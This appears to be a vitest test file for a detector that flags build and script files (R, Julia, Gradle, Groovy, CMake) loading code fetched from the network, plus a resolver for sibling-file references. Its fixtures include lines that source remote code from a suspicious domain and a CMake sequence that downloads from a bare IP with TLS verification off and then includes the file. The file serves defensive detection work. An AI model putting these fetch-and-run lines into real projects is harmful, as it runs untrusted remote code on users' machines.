import { describe, expect, it } from 'vitest';
import { foreignLoads, loadedSiblings } from '../../../src/analysis/code/foreign-loads.js';

const loads = (text: string) => foreignLoads(text).map((l) => [l.via, l.url, l.pinned === true]);

describe('code fetched and loaded by scripts in languages without a parser', () => {
  it('one call: R source of a URL (literal or variable), source_url, eval(parse(readLines())), Julia, Gradle, Groovy', () => {
    expect(loads('source("https://a.cdn-assets-sync.net/x.R")')).toEqual([
      ['source', 'https://a.cdn-assets-sync.net/x.R', false],
    ]);
    expect(loads('u <- "https://a.cdn-assets-sync.net/y.R"\ntry(source(u), silent = TRUE)')).toEqual([
      ['source', 'https://a.cdn-assets-sync.net/y.R', false],
    ]);
    expect(loads('devtools::source_url("https://a.cdn-assets-sync.net/z.R")')[0]?.[0]).toBe('source_url');
    expect(loads('eval(parse(text = readLines("https://a.cdn-assets-sync.net/w.R")))')[0]?.[0]).toBe(
      'eval(parse())',
    );
    expect(loads('include(download("https://a.cdn-assets-sync.net/v.jl"))')[0]?.[0]).toBe('include');
    expect(loads("apply from: 'https://a.cdn-assets-sync.net/init.gradle'")[0]?.[0]).toBe('apply from');
    expect(loads('evaluate(new URL("https://a.cdn-assets-sync.net/g.groovy").text)')[0]?.[0]).toBe(
      'evaluate',
    );
  });
  it('two statements: a download to a file, then a load of that file (CMake variables resolved)', () => {
    const cmake = [
      'set(MIRROR "http://45.133.1.7/helpers")',
      'set(DEST "${CMAKE_BINARY_DIR}/h.cmake")',
      'file(DOWNLOAD ${MIRROR}/h.cmake ${DEST} TLS_VERIFY OFF)',
      'include(${DEST})',
    ].join('\n');
    expect(loads(cmake)).toEqual([['include', 'http://45.133.1.7/helpers/h.cmake', false]]);
    const r = 'download.file("https://a.cdn-assets-sync.net/s.R", destfile = "s.R")\nsource("s.R")';
    expect(loads(r)).toEqual([['source', 'https://a.cdn-assets-sync.net/s.R', false]]);
  });
  it('a download checked against EXPECTED_HASH is pinned', () => {
    const cmake =
      'file(DOWNLOAD\n  https://github.com/o/r/releases/download/v1/x.cmake\n  ${LOC} EXPECTED_HASH SHA256=${SUM}\n)\ninclude(${LOC})';
    expect(loads(cmake)).toEqual([['include', 'https://github.com/o/r/releases/download/v1/x.cmake', true]]);
  });
  it('not: a local source, a downloaded file read as data, a load of another file', () => {
    expect(loads('source("R/helpers.R")')).toEqual([]);
    expect(loads('download.file(u, "d.csv")\nd <- read.csv("d.csv")')).toEqual([]);
    expect(loads('download.file(u, "a.R")\nsource("b.R")')).toEqual([]);
  });
});

describe('sibling files these scripts load, for the reference graph', () => {
  it('CMake, R, Julia, Gradle, Starlark, Tilt, Tcl, Lua and Elixir', () => {
    const targets = (t: string) => loadedSiblings(t).map((s) => s.target);
    expect(targets('include(cmake/deps.cmake)\nadd_subdirectory(src)')).toEqual([
      './cmake/deps.cmake',
      './src/CMakeLists.txt',
    ]);
    expect(targets('source("R/helpers.R")')).toEqual(['R/helpers.R']);
    expect(targets('include("util.jl")')).toEqual(['./util.jl']);
    expect(targets("apply from: 'gradle/publish.gradle'")).toEqual(['gradle/publish.gradle']);
    expect(targets('load("//tools/build:defs.bzl", "x")\nload(":local.bzl", "y")')).toEqual([
      'tools/build/defs.bzl',
      './local.bzl',
    ]);
    expect(targets("load('./ops/Tiltfile', 'f')")).toEqual(['./ops/Tiltfile']);
    expect(targets('source helpers.tcl')).toEqual(['./helpers.tcl']);
    expect(targets('dofile("lib/x.lua")\nCode.require_file("mix/tasks.exs")')).toEqual([
      'lib/x.lua',
      'mix/tasks.exs',
    ]);
    expect(targets('source("https://a.cdn-assets-sync.net/x.R")')).toEqual([]);
  });
});
